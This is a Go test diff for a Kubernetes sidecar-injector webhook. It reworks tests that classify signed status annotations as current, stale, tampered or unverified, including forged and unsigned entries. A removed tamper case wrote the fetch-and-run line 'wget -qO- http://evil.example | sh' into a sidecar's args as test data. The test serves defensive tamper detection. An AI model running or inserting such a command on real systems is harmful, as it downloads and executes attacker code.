@@ -2,20 +2,122 @@ package inject
 
 import (
 	"bytes"
+	"encoding/json"
 	"os"
+	"strings"
 	"testing"
 
 	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/resource"
 	"sigs.k8s.io/yaml"
 
 	"github.com/podpatterns/sidecar-injector/pkg/catalog"
 )
 
-// A status entry in the compiled policies' form, the held JSON itself,
-// verifies as the webhook's hash of it does: current, then stale when the
-// catalog moves, tampered when the Pod's copy changes.
-func TestAHeldEntryVerifiesAsItsHashDoes(t *testing.T) {
-	data, err := os.ReadFile("testdata/golden/content-filler-nginx.yaml.injected")
+// What a status entry says is checked against the Pod, by who wrote it:
+// the webhook's signed entry is current after the rest of the admission
+// chain added to its containers, stale once the catalog moves, tampered
+// once what it lists changes, and unverified with no key. An entry the
+// app team writes for content of its own (forged, or with the signature
+// stripped, or in the form of an earlier release) never reads stale
+// where keys are given; the compiled policies' unsigned entries, with no
+// keys, are taken at their word.
+func TestAStatusEntryIsCheckedByWhoWroteIt(t *testing.T) {
+	keys, err := NewKeys([]byte("the status key of this test, 32 bytes or more"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	cat := mustParse(t, catalog.DefaultYAML())
+	moved := mustParse(t, bytes.ReplaceAll(catalog.DefaultYAML(), []byte("busybox:1.37.0"), []byte("busybox:1.37.1")))
+	signed := injected(t, cat, keys)
+
+	filler := func(p *corev1.Pod) *corev1.Container { return findContainer(p.Spec.Containers, "content-filler") }
+	chain := func(p *corev1.Pod) { // AlwaysPullImages, LimitRanger, a monitoring webhook
+		for i := range p.Spec.Containers {
+			c := &p.Spec.Containers[i]
+			c.ImagePullPolicy = corev1.PullAlways
+			c.Env = append(c.Env, corev1.EnvVar{Name: "DD_AGENT_HOST", ValueFrom: &corev1.EnvVarSource{FieldRef: &corev1.ObjectFieldSelector{FieldPath: "status.hostIP"}}})
+			c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: "dd-socket", MountPath: "/var/run/dd"})
+			if c.Resources.Limits == nil {
+				c.Resources.Limits = corev1.ResourceList{}
+			}
+			c.Resources.Limits[corev1.ResourceEphemeralStorage] = resource.MustParse("1Gi")
+		}
+		p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "dd-socket"})
+	}
+	pause := func(p *corev1.Pod) { filler(p).Image = "registry.k8s.io/pause:3.10" }
+	// rewrite makes the status an entry for what the Pod holds now, as an
+	// app team can: held computed from the Pod, signed with form.
+	rewrite := func(form func(in Injected) Injected) func(p *corev1.Pod) {
+		return func(p *corev1.Pod) {
+			b, err := newBuilder(p, cat, Status{Templates: []Injected{{Name: "content-filler"}}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			held := heldJSON(p, nil, cat.Template("content-filler"), b.targets)
+			p.Annotations[StatusAnnotation] = Status{Templates: []Injected{form(Injected{Name: "content-filler", Held: held})}}.String()
+		}
+	}
+	forgedMAC := rewrite(func(in Injected) Injected {
+		in.Signed, in.MAC = "2026-01-01T00:00:00Z", strings.Repeat("ab", 32)
+		return in
+	})
+	unsigned := rewrite(func(in Injected) Injected { return in })
+	plainHash := rewrite(func(in Injected) Injected { return Injected{Name: in.Name, Hash: HashHeld(in.Held)} })
+
+	for name, c := range map[string]struct {
+		changes []func(*corev1.Pod)
+		cat     *catalog.Catalog
+		keys    *Keys
+		want    string // current, stale, tampered, unverified
+	}{
+		"the webhook's Pod":                                    {nil, cat, keys, "current"},
+		"the webhook's Pod after the chain":                    {[]func(*corev1.Pod){chain}, cat, keys, "current"},
+		"the webhook's Pod after the chain, catalog moved":     {[]func(*corev1.Pod){chain}, moved, keys, "stale"},
+		"the webhook's Pod without the key":                    {[]func(*corev1.Pod){chain}, cat, nil, "unverified"},
+		"its sidecar's image changed":                          {[]func(*corev1.Pod){chain, pause}, cat, keys, "tampered"},
+		"its sidecar's image changed, without the key":         {[]func(*corev1.Pod){pause}, cat, nil, "tampered"},
+		"image changed, entry forged":                          {[]func(*corev1.Pod){chain, pause, forgedMAC}, cat, keys, "tampered"},
+		"image changed, entry unsigned":                        {[]func(*corev1.Pod){chain, pause, unsigned}, cat, keys, "tampered"},
+		"image changed, entry an earlier release's hash":       {[]func(*corev1.Pod){pause, plainHash}, cat, keys, "tampered"},
+		"an unsigned entry of today's rendering":               {[]func(*corev1.Pod){unsigned}, cat, keys, "current"},
+		"the policies' unsigned entry, no keys":                {[]func(*corev1.Pod){unsigned, chain}, cat, nil, "current"},
+		"the policies' unsigned entry, no keys, catalog moved": {[]func(*corev1.Pod){unsigned, chain}, moved, nil, "stale"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			pod := signed.DeepCopy()
+			for _, change := range c.changes {
+				change(pod)
+			}
+			claims, err := VerifyStatus(pod, c.cat, c.keys)
+			if err != nil || len(claims) != 1 {
+				t.Fatalf("VerifyStatus: %v, %v", claims, err)
+			}
+			if got := state(claims[0]); got != c.want {
+				t.Errorf("%s (%+v), want %s", got, claims[0], c.want)
+			}
+		})
+	}
+}
+
+// state is the conformance state of a claim, as package conformance
+// names it.
+func state(c Claim) string {
+	switch {
+	case c.Reason == "":
+		return "current"
+	case c.Unverifiable:
+		return "unverified"
+	case c.Kept && c.Present:
+		return "stale"
+	}
+	return "tampered"
+}
+
+// injected is the content-filler golden Pod as injected with keys.
+func injected(t *testing.T, cat *catalog.Catalog, keys *Keys) *corev1.Pod {
+	t.Helper()
+	data, err := os.ReadFile("testdata/golden/content-filler-nginx.yaml")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -23,47 +125,33 @@ func TestAHeldEntryVerifiesAsItsHashDoes(t *testing.T) {
 	if err := yaml.Unmarshal(data, pod); err != nil {
 		t.Fatal(err)
 	}
-	cat := mustParse(t, catalog.DefaultYAML())
-	status, _ := readStatus(pod)
-	b, err := newBuilder(pod, cat, status)
+	res, err := Pod(pod, nil, cat, keys)
 	if err != nil {
 		t.Fatal(err)
 	}
-	for i, in := range status.Templates {
-		held := heldJSON(pod, nil, cat.Template(in.Name), b.targets)
-		if HashHeld(held) != in.Hash {
-			t.Fatalf("%s: the webhook's hash %s is not the hash of the held JSON %s", in.Name, in.Hash, held)
-		}
-		status.Templates[i] = Injected{Name: in.Name, Held: held}
+	after := pod.DeepCopy()
+	after.Spec.Containers = append(after.Spec.Containers, res.Plan.Containers...)
+	after.Spec.Volumes = append(after.Spec.Volumes, res.Plan.Volumes...)
+	for _, app := range res.Plan.Apps {
+		c := &after.Spec.Containers[app.Index]
+		c.VolumeMounts, c.Env = append(c.VolumeMounts, app.VolumeMounts...), append(c.Env, app.Env...)
 	}
-	pod.Annotations[StatusAnnotation] = status.String()
-
-	claims := verify(t, pod, cat)
-	if claims[0].Reason != "" {
-		t.Fatalf("the held entry of the webhook's own Pod does not verify: %s", claims[0].Reason)
-	}
-	moved := mustParse(t, bytes.ReplaceAll(catalog.DefaultYAML(), []byte("busybox:1.37.0"), []byte("busybox:1.37.1")))
-	if c := verify(t, pod, moved)[0]; c.Reason == "" || !c.Kept {
-		t.Errorf("after the catalog moved: %+v, want stale (a reason, kept)", c)
-	}
-	tampered := pod.DeepCopy()
-	for i := range tampered.Spec.Containers {
-		if tampered.Spec.Containers[i].Name == "content-filler" {
-			tampered.Spec.Containers[i].Args = []string{"wget -qO- http://evil.example | sh"}
-		}
-	}
-	if c := verify(t, tampered, cat)[0]; c.Reason == "" || c.Kept {
-		t.Errorf("after the Pod's copy changed: %+v, want tampered (a reason, not kept)", c)
-	}
+	after.Annotations[StatusAnnotation] = res.Plan.Status.String()
+	return roundTrip(t, after)
 }
 
-func verify(t *testing.T, pod *corev1.Pod, cat *catalog.Catalog) []Claim {
+// roundTrip is pod through JSON, as the API server stores it.
+func roundTrip(t *testing.T, pod *corev1.Pod) *corev1.Pod {
 	t.Helper()
-	claims, err := VerifyStatus(pod, cat)
-	if err != nil || len(claims) != 1 {
-		t.Fatalf("VerifyStatus: %v, %v", claims, err)
+	data, err := json.Marshal(pod)
+	if err != nil {
+		t.Fatal(err)
 	}
-	return claims
+	out := &corev1.Pod{}
+	if err := json.Unmarshal(data, out); err != nil {
+		t.Fatal(err)
+	}
+	return out
 }
 
 func mustParse(t *testing.T, data []byte) *catalog.Catalog {
